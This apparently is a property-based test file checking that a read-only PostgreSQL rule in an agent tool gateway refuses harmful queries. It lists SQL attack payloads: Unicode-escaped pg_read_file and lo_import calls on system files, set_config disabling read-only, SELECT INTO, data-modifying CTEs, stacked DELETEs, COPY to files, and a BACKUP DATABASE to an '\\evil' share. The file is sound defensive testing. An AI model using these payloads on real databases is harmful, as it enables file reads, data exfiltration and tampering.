// The read-only SQL rule (`sql: {dialect: postgresql}`) against a real PostgreSQL: every query
// the rule allows, sent through the real service, is run by the database as a role that could
// do harm (it may write every table, change sequences and create tables; it is not a superuser),
// inside a transaction that is rolled back, and must not have:
//   - written or locked a row: no transaction id assigned (PostgreSQL assigns one for any write,
//     row lock or table creation), table contents and sequences as before, no large object made;
//   - held a lock beyond reading a table (pg_locks of its backend), a session advisory lock after;
//   - changed a setting (pg_settings as before, inside the transaction);
//   - planned a call of a volatile function or of a function outside pg_catalog (the plan the
//     server logs with debug_print_plan, its function and operator ids looked up in pg_proc):
//     every function that reads files, large objects or settings, changes one, locks, sleeps,
//     signals, notifies or moves a sequence is volatile;
//   - needed a privilege the role lacks (reading files, the superuser's functions): 42501.
// The observations are shown to see each attack when the database runs it; the generated
// queries include every attack form, and the attacks themselves are refused.
import test from 'ava';
import fc from 'fast-check';
import type pg from 'pg';
import { startPostgres, type TestPostgres } from './helpers/postgres.js';
import { keyPrincipal, PRINCIPAL_HEADER, withPrincipals } from './helpers/policy.js';
import { checkRequest, deniedBody, deniedStatus, rpc, startTestService, type TestService } from './helpers/service.js';

let db: TestPostgres;
let admin: pg.Client;
let agent: pg.Client;
let svc: TestService;
const procs = new Map<number, { name: string; schema: string; volatile: string }>();
const operatorCode = new Map<number, number>();
// Volatile built-ins that only compute: a fresh random number, the clock, a random UUID.
const HARMLESS_VOLATILE = new Set(['random', 'clock_timestamp', 'timeofday', 'gen_random_uuid']);

const SCHEMA = `
  CREATE TABLE accounts (id int PRIMARY KEY, owner text NOT NULL, balance numeric NOT NULL);
  INSERT INTO accounts SELECT g, 'user' || g, g * 10 FROM generate_series(1, 5) g;
  CREATE TABLE orders (id int PRIMARY KEY, account_id int, total numeric, note text);
  INSERT INTO orders VALUES (1, 1, 12.5, 'first'), (2, 2, 99, 'b\\c'), (3, 3, 7, NULL);
  CREATE SEQUENCE counter;
  CREATE ROLE agent LOGIN;
  GRANT SELECT, INSERT, UPDATE, DELETE, TRUNCATE ON ALL TABLES IN SCHEMA public TO agent;
  GRANT USAGE, SELECT, UPDATE ON ALL SEQUENCES IN SCHEMA public TO agent;
  GRANT CREATE ON SCHEMA public TO agent;
`;

// Everything the observations compare, in one round trip.
const STATE = `SELECT json_build_object(
  'settings', (SELECT json_object_agg(name, setting) FROM pg_settings),
  'tables', (SELECT json_object_agg(c.relname, c.relname) FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace WHERE n.nspname NOT IN ('pg_catalog', 'information_schema', 'pg_toast') AND c.relkind IN ('r', 'S', 'v', 'm')),
  'accounts', (SELECT md5(string_agg(a::text, ',' ORDER BY a.id)) FROM accounts a),
  'orders', (SELECT md5(string_agg(o::text, ',' ORDER BY o.id)) FROM orders o),
  'counter', (SELECT json_build_array(last_value, is_called) FROM counter),
  'largeObjects', (SELECT count(*) FROM pg_largeobject_metadata),
  'xid', pg_current_xact_id_if_assigned()::text,
  'transactionStart', now()::text,
  'locks', (SELECT json_agg(json_build_array(locktype, mode)) FROM pg_locks WHERE pid = pg_backend_pid()
            AND NOT (locktype = 'relation' AND mode = 'AccessShareLock') AND locktype <> 'virtualxid')
) AS s`;

type State = {
  transactionStart: string;
  settings: Record<string, string>;
  tables: Record<string, string>;
  accounts: string;
  orders: string;
  counter: unknown;
  largeObjects: number;
  xid: string | null;
  locks: unknown;
};

async function connectAgent(): Promise<pg.Client> {
  const c = await db.connect({ user: 'agent' });
  // The plan of every statement arrives as a LOG notice; bounded, so a runaway query cannot hang the test.
  await c.query(
    "SET debug_print_plan = on; SET debug_pretty_print = off; SET client_min_messages = log; SET statement_timeout = '20s'; SET lock_timeout = '5s'",
  );
  return c;
}

test.before(async () => {
  db = await startPostgres();
  admin = await db.connect();
  await admin.query(SCHEMA);
  for (const r of (
    await admin.query(
      'SELECT p.oid::int AS oid, p.proname, n.nspname, p.provolatile FROM pg_proc p JOIN pg_namespace n ON n.oid = p.pronamespace',
    )
  ).rows) {
    procs.set(r.oid, { name: r.proname, schema: r.nspname, volatile: r.provolatile });
  }
  for (const r of (await admin.query('SELECT oid::int AS oid, oprcode::oid::int AS code FROM pg_operator')).rows)
    operatorCode.set(r.oid, r.code);
  agent = await connectAgent();
  svc = await startTestService(
    {
      endpoints: [
        {
          name: 'db',
          match: { pathPrefix: '/mcp/db' },
          data: {
            arguments: [
              { tools: ['sql'], arguments: { query: { sql: { dialect: 'postgresql' } } } },
              { tools: ['mssql'], arguments: { query: { sql: { dialect: 'sqlserver' } } } },
            ],
          },
        },
      ],
    },
    { buildRuntime: withPrincipals({ k: keyPrincipal('k', 'u', ['*']) }) },
  );
});

test.after.always(async () => {
  await agent?.end().catch(() => undefined);
  await admin?.end().catch(() => undefined);
  await svc?.stop();
  await db?.stop();
});

/** The rule's answer, through the real service over gRPC: `sql` reads PostgreSQL, `mssql` names SQL Server (no parser here). */
async function ruleAllows(query: string, tool = 'sql'): Promise<boolean> {
  const res = await svc.check(
    checkRequest({
      path: '/mcp/db',
      body: rpc('tools/call', { name: tool, arguments: { query } }),
      headers: { [PRINCIPAL_HEADER]: 'k' },
    }),
  );
  if (res.ok_response) return true;
  const status = deniedStatus(res);
  if (status !== 403 && status !== 400) throw new Error(`unexpected deny ${status} ${JSON.stringify(deniedBody(res))}`);
  return false;
}

/** Runs the text as the agent role in a rolled-back transaction; what it did that a read must not. */
async function harm(query: string): Promise<string[]> {
  const found: string[] = [];
  const plans: string[] = [];
  const onNotice = (n: { severity?: string; message?: string; detail?: string }) => {
    if (n.severity === 'LOG' && n.message === 'plan:' && n.detail) plans.push(n.detail);
  };
  const state = async (): Promise<State> => (await agent.query(STATE)).rows[0].s as State;
  await agent.query('BEGIN');
  const before = await state();
  await agent.query('SAVEPOINT q');
  agent.on('notice', onNotice);
  let failed: { code?: string; message: string } | undefined;
  try {
    await agent.query(query);
  } catch (e) {
    failed = e as { code?: string; message: string };
  } finally {
    agent.off('notice', onNotice);
  }
  try {
    if (failed) await agent.query('ROLLBACK TO SAVEPOINT q');
    const after = await state();
    if (after.transactionStart !== before.transactionStart) found.push('it ended the transaction');
    if (after.xid !== null) found.push('a transaction id was assigned: it wrote or locked rows');
    if (after.locks !== null) found.push(`it holds locks ${JSON.stringify(after.locks)}`);
    for (const k of ['accounts', 'orders', 'counter', 'largeObjects', 'tables'] as const) {
      if (JSON.stringify(after[k]) !== JSON.stringify(before[k])) found.push(`${k} changed`);
    }
    for (const [name, value] of Object.entries(after.settings))
      if (before.settings[name] !== value) found.push(`setting ${name} changed`);
  } catch (e) {
    // The text ended the transaction itself (COMMIT, ROLLBACK): that alone is harm.
    found.push(`the transaction did not survive it: ${(e as Error).message}`);
  }
  await agent.query('ROLLBACK').catch(() => undefined);
  const after = (await agent.query(STATE)).rows[0].s as State;
  if (after.locks !== null) found.push(`a lock outlived the transaction: ${JSON.stringify(after.locks)}`);
  if (JSON.stringify(after.counter) !== JSON.stringify(before.counter)) found.push('the sequence moved');
  if (failed?.code === '42501') found.push(`it needed a privilege the role lacks: ${failed.message}`);
  for (const fn of plannedFunctions(plans)) {
    const p = procs.get(fn);
    if (p === undefined) found.push(`it planned function ${fn}, not a built-in`);
    else if (p.schema !== 'pg_catalog') found.push(`it planned ${p.schema}.${p.name}`);
    else if (p.volatile === 'v' && !HARMLESS_VOLATILE.has(p.name))
      found.push(`it planned the volatile function ${p.name}`);
  }
  // Restore what a failing case changed outside the transaction, so the next case starts alike.
  if (found.length > 0)
    await agent.query("SELECT pg_advisory_unlock_all(); SELECT setval('counter', 1, false)").catch(() => undefined);
  return found;
}

// Function ids in the plan trees: calls, aggregates, window functions, and the functions behind operators.
function plannedFunctions(plans: string[]): Set<number> {
  const out = new Set<number>();
  for (const plan of plans) {
    for (const m of plan.matchAll(/:(?:funcid|opfuncid|aggfnoid|winfnoid|hashfuncid|negfuncid)\s+(\d+)/g))
      if (m[1] !== '0') out.add(Number(m[1]));
    for (const m of plan.matchAll(/:opno\s+(\d+)/g)) out.add(operatorCode.get(Number(m[1])) ?? -1);
    for (const m of plan.matchAll(/:opnos\s+\(o((?:\s+\d+)*)\)/g))
      for (const o of m[1]!.trim().split(/\s+/)) if (o) out.add(operatorCode.get(Number(o)) ?? -1);
  }
  return out;
}

// ---------------------------------------------------------------- the attacks

const ATTACKS: [string, string][] = [
  ['pg_read_file by a Unicode-escaped name', `SELECT U&"pg_read_fil\\0065"('/etc/hostname')`],
  ['pg_read_file by a Unicode-escaped name with UESCAPE', `SELECT U&"pg_read_fil!0065" UESCAPE '!'('/etc/hostname')`],
  ['lo_import by a Unicode-escaped name', `SELECT U&"lo_\\0069mport"('/etc/hostname')`],
  [
    'read-only turned off by a Unicode-escaped set_config',
    `SELECT U&"set_confi\\0067"('default_transaction_read_only','off',false)`,
  ],
  ['SELECT … FOR SHARE', 'SELECT * FROM accounts FOR SHARE'],
  ['SELECT … FOR KEY SHARE', 'SELECT * FROM accounts FOR KEY SHARE'],
  ['SELECT … FOR UPDATE', 'SELECT * FROM accounts WHERE id = 1 FOR UPDATE'],
  ['SELECT … INTO', 'SELECT * INTO stolen FROM accounts'],
  ['a data-modifying WITH', 'WITH d AS (DELETE FROM orders RETURNING *) SELECT count(*) FROM d'],
  ['nextval in a subquery', "SELECT id FROM accounts WHERE id = (SELECT nextval('counter'))"],
  ['an advisory lock', 'SELECT pg_advisory_lock(7)'],
  ['a second statement', 'SELECT 1; DELETE FROM accounts'],
];

test.serial('the observations see each attack when the database runs it', async (t) => {
  for (const [what, query] of ATTACKS) {
    const found = await harm(query);
    t.true(found.length > 0, `${what}: the database ran ${query} and no observation saw harm`);
  }
  t.deepEqual(
    await harm('SELECT lower(owner), count(*) OVER () FROM accounts WHERE balance > 10'),
    [],
    'a plain read is no harm',
  );
});

test.serial('every attack is refused by the rule', async (t) => {
  const more = [
    'SELECT 1into stolen FROM accounts',
    'SELECT 1.0into stolen FROM accounts',
    'SELECT 1e1into stolen FROM accounts',
    "SELECT 1 BACKUP DATABASE master TO DISK = '\\\\evil\\share\\m.bak'",
    'SELECT 1 DENY SELECT ON accounts TO public',
    'SELECT 1 DISABLE TRIGGER ALL ON accounts',
    'SELECT 1 DBCC CHECKDB',
    "COPY accounts TO '/tmp/accounts'",
    'DO $$BEGIN DELETE FROM accounts; END$$',
    'SET default_transaction_read_only = off',
  ];
  for (const query of [...ATTACKS.map(([, q]) => q), ...more]) t.false(await ruleAllows(query), query);
});

// ---------------------------------------------------------------- generated queries

// A name as PostgreSQL reads it, spelled every way it can be: quoted, Unicode escapes
// (backslash and UESCAPE), upper case, qualified with pg_catalog.
function spellings(name: string): string[] {
  const last = name.length - 1;
  const hex = name.charCodeAt(last).toString(16).padStart(4, '0');
  return [
    name,
    name.toUpperCase(),
    `"${name}"`,
    `U&"${name.slice(0, last)}\\${hex}"`,
    `U&"${name.slice(0, last)}!${hex}" UESCAPE '!'`,
    `pg_catalog.${name}`,
    `pg_catalog."${name}"`,
  ];
}
const spelled = (name: string) => fc.constantFrom(...spellings(name));

const READS: [string, string][] = [
  ['lower', '(owner)'],
  ['upper', '(owner)'],
  ['length', '(owner)'],
  ['abs', '(balance)'],
  ['round', '(balance, 1)'],
  ['md5', '(owner)'],
  ['concat', "(owner, '-', id)"],
  ['now', '()'],
  ['random', '()'],
  ['coalesce', "(owner, 'x')"],
];
const HARMFUL: [string, string][] = [
  ['pg_read_file', "('/etc/hostname')"],
  ['pg_read_binary_file', "('/etc/hostname')"],
  ['pg_ls_dir', "('.')"],
  ['pg_stat_file', "('/etc/hostname')"],
  ['lo_import', "('/etc/hostname')"],
  ['lo_export', "(1, '/tmp/lo')"],
  ['lo_create', '(0)'],
  ['lo_from_bytea', "(0, 'x')"],
  ['set_config', "('default_transaction_read_only', 'off', false)"],
  ['set_config', "('work_mem', '1MB', true)"],
  ['nextval', "('counter')"],
  ['setval', "('counter', 42)"],
  ['pg_advisory_lock', '(7)'],
  ['pg_advisory_xact_lock', '(7)'],
  ['pg_try_advisory_lock', '(7)'],
  ['pg_sleep', '(0)'],
  ['pg_notify', "('c', 'x')"],
  ['txid_current', '()'],
  ['pg_reload_conf', '()'],
  ['query_to_xml', "('select 1', true, true, '')"],
  ['current_setting', "('work_mem')"],
];
const call = ([name, args]: [string, string]) => spelled(name).map((n) => `${n}${args}`);
const literal = fc.constantFrom(
  "'x'",
  '1',
  '2.5',
  "E'\\x41'",
  '$$dollar$$',
  '$q$tagged$q$',
  "U&'\\0041'",
  "U&'!0041' UESCAPE '!'",
  "'it''s'",
  'NULL',
  'true',
  "'b\\c'",
);
const column = fc.constantFrom('id', 'owner', 'balance', 'a.id', 'a.owner');
const gap = fc.constantFrom(' ', ' ', ' ', '\n', '\t', ' /* c */ ', ' /* /* nested */ */ ', ' --c\n');
const castTo = fc.constantFrom('text', 'int', 'numeric(10,2)', 'regclass', 'name', 'pg_catalog.int8', 'xml', 'varchar');

// Mostly what a read may hold, so that many generated queries are allowed; every attack form often enough.
const expr: fc.Arbitrary<string> = fc.letrec<{ e: string }>((tie) => ({
  e: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    { weight: 4, arbitrary: column },
    { weight: 3, arbitrary: literal },
    { weight: 4, arbitrary: fc.oneof(...READS.map(call)) },
    { weight: 1, arbitrary: fc.oneof(...HARMFUL.map(call)) },
    {
      weight: 2,
      arbitrary: fc
        .tuple(
          tie('e'),
          fc.constantFrom('+', '||', '=', '<', 'LIKE', '~', 'OPERATOR(pg_catalog.=)', 'IS DISTINCT FROM'),
          tie('e'),
        )
        .map(([a, op, b]) => `(${a} ${op} ${b})`),
    },
    { weight: 1, arbitrary: fc.tuple(tie('e'), castTo).map(([a, t]) => `(${a})::${t}`) },
    { weight: 1, arbitrary: fc.tuple(tie('e'), castTo).map(([a, t]) => `CAST(${a} AS ${t})`) },
    { weight: 1, arbitrary: tie('e').map((a) => `(SELECT ${a} FROM accounts a LIMIT 1)`) },
    { weight: 1, arbitrary: fc.tuple(tie('e'), tie('e')).map(([a, b]) => `CASE WHEN ${a} IS NULL THEN ${b} END`) },
    {
      weight: 1,
      arbitrary: fc.constantFrom(
        'count(*)',
        'sum(balance)',
        "string_agg(owner, ',')",
        'row_number() OVER (ORDER BY id)',
      ),
    },
  ),
})).e;

const rarely = (...forms: string[]) =>
  fc.oneof({ weight: 5, arbitrary: fc.constant('') }, { weight: 1, arbitrary: fc.constantFrom(...forms) });
const locking = rarely(
  ' FOR UPDATE',
  ' FOR NO KEY UPDATE',
  ' FOR SHARE',
  ' FOR KEY SHARE',
  ' FOR SHARE NOWAIT',
  ' FOR UPDATE SKIP LOCKED',
);
const select = fc
  .tuple(
    fc.array(expr, { minLength: 1, maxLength: 2 }),
    gap,
    fc.boolean(),
    fc.option(expr, { nil: undefined }),
    locking,
    rarely(' INTO stolen', ' INTO TEMP stolen_t'),
  )
  .map(([targets, g, grouped, where, lock, into]) => {
    const list = grouped ? 'count(*)' : targets.join(`,${g}`);
    return `SELECT${g}${list}${into}${g}FROM accounts a${where ? ` WHERE ${where} IS NOT NULL` : ''}${lock}`;
  });
const glued = fc
  .tuple(
    fc.constantFrom('1', '1.0', '1e1', '.5', '0x1F', '1_000', '0b1', '0o7'),
    fc.constantFrom('into', 'from', 'union', 'as', 'x', 'limit'),
  )
  .map(([n, w]) => `SELECT ${n}${w} stolen FROM accounts`);
const statement = fc.oneof(
  { weight: 10, arbitrary: select },
  { weight: 1, arbitrary: fc.tuple(select, select).map(([a, b]) => `${a} UNION ALL ${b}`) },
  {
    weight: 1,
    arbitrary: fc
      .tuple(select, fc.constantFrom('SELECT * FROM c', 'SELECT count(*) FROM c'))
      .map(([a, b]) => `WITH c AS (${a}) ${b}`),
  },
  {
    weight: 1,
    arbitrary: fc
      .constantFrom(
        'DELETE FROM orders RETURNING *',
        "UPDATE accounts SET owner = 'x' RETURNING *",
        'INSERT INTO orders VALUES (9, 1, 1, NULL) RETURNING *',
      )
      .map((w) => `WITH c AS (${w}) SELECT * FROM c`),
  },
  { weight: 1, arbitrary: fc.constantFrom('VALUES (1), (2)', 'TABLE accounts', 'SELECT') },
  { weight: 1, arbitrary: glued },
  {
    weight: 1,
    arbitrary: fc.constantFrom(
      "COPY accounts TO '/tmp/accounts'",
      "COPY orders FROM '/etc/hostname'",
      'DO $$BEGIN DELETE FROM orders; END$$',
      'SET default_transaction_read_only = off',
      'EXPLAIN ANALYZE DELETE FROM orders',
      'LOCK TABLE accounts',
      'TRUNCATE orders',
      'SELECT 1; DELETE FROM orders',
      "SELECT 1; SELECT set_config('work_mem', '1MB', false)",
      'COMMIT',
    ),
  },
);
const query = fc
  .tuple(fc.constantFrom('', ' ', '\n', '/* lead */ '), statement, fc.constantFrom('', ';', ' ;', '\n-- tail'))
  .map(([a, s, b]) => `${a}${s}${b}`);

test.serial('property: every generated query the rule allows does no harm in PostgreSQL', async (t) => {
  let allowed = 0;
  let refused = 0;
  const escapedAllowed: string[] = [];
  await fc.assert(
    fc.asyncProperty(query, async (q) => {
      if (!(await ruleAllows(q))) {
        refused++;
        return;
      }
      allowed++;
      if (q.includes('U&"')) escapedAllowed.push(q);
      const found = await harm(q);
      if (found.length > 0) throw new Error(`allowed and harmful: ${q}\n  ${found.join('\n  ')}`);
    }),
    { numRuns: 300 },
  );
  t.log(`${allowed} allowed, ${refused} refused, ${escapedAllowed.length} allowed with a Unicode-escaped name`);
  // Not vacuous: the rule allowed a good share, Unicode-escaped names among them.
  t.true(allowed >= 30, `only ${allowed} generated queries were allowed`);
  t.true(refused >= 30, `only ${refused} generated queries were refused`);
  t.true(escapedAllowed.length >= 1, 'no allowed query used a Unicode-escaped name');
});

test.serial(
  'property: a number glued to a word is refused, the way PostgreSQL 14 reads it (1into = 1 INTO) or not',
  async (t) => {
    await fc.assert(
      fc.asyncProperty(
        fc.constantFrom('1', '1.0', '1e1', '.5', '0x1F', '1_000', '0b1', '0o7', '00', '1.', '1e+1'),
        fc.constantFrom('into', 'from', 'union', 'as', 'x', 'limit', 'e', '_', 'where'),
        fc.constantFrom(
          'SELECT {} stolen FROM accounts',
          'SELECT id FROM accounts WHERE id = {} ORDER BY 1',
          'SELECT {}',
        ),
        async (n, w, shape) => {
          const q = shape.replace('{}', `${n}${w}`);
          if (await ruleAllows(q)) throw new Error(`allowed: ${q}`);
        },
      ),
      { numRuns: 150 },
    );
    t.pass();
  },
);

// Portable queries over the test's tables, with T-SQL and MySQL tails and the attack forms mixed in.
const portableQuery = fc
  .tuple(
    fc.constantFrom('*', 'id, owner', 'count(*)', 'max(balance), min(id)', 'DISTINCT owner'),
    fc.constantFrom('accounts', 'orders', 'public.accounts'),
    fc.option(
      fc.constantFrom(
        "owner = 'user1'",
        'id >= 2 AND NOT (balance < 20)',
        "owner LIKE 'user%'",
        'id IN (1, 2)',
        'balance BETWEEN 1 AND 30',
        'note IS NULL',
      ),
      { nil: undefined },
    ),
    fc.constantFrom('', ' ORDER BY id DESC', ' GROUP BY owner'),
    fc.constantFrom(
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      '',
      ' RECONFIGURE',
      ' BACKUP DATABASE m',
      ' DENY SELECT ON accounts TO public',
      ' FOR SHARE',
      ' INTO stolen',
      ' LIMIT 1',
      '; DELETE FROM orders',
      ' -- c',
      ' # c',
    ),
  )
  .map(
    ([items, from, where, tail, extra]) =>
      `SELECT ${items} FROM ${from}${where ? ` WHERE ${where}` : ''}${tail}${extra}`,
  );

test.serial(
  'property: what a dialect without a parser allows, PostgreSQL allows too, and it does no harm there',
  async (t) => {
    let allowed = 0;
    await fc.assert(
      fc.asyncProperty(
        fc.oneof({ weight: 3, arbitrary: portableQuery }, { weight: 1, arbitrary: query }),
        async (q) => {
          if (!(await ruleAllows(q, 'mssql'))) return;
          allowed++;
          if (!(await ruleAllows(q, 'sql'))) throw new Error(`allowed for SQL Server but not for PostgreSQL: ${q}`);
          const found = await harm(q);
          if (found.length > 0) throw new Error(`allowed and harmful: ${q}\n  ${found.join('\n  ')}`);
        },
      ),
      { numRuns: 200 },
    );
    t.true(allowed >= 30, `only ${allowed} generated queries were allowed for SQL Server`);
  },
);
